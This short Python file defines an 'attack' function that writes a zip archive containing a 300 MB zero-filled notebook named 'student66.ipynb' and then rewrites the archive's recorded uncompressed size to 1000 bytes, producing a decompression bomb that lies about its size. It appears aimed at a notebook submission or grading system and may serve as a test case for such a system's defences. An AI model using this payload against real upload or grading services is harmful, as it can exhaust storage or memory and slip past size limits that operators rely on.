"""A member of some kilobytes is gigabytes when unpacked, and says that it is small."""
import struct
import zipfile

def attack(path, notebook):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("student66.ipynb", bytes(300_000_000))
    data = path.read_bytes()
    path.write_bytes(data.replace(struct.pack("<I", 300_000_000), struct.pack("<I", 1000)))
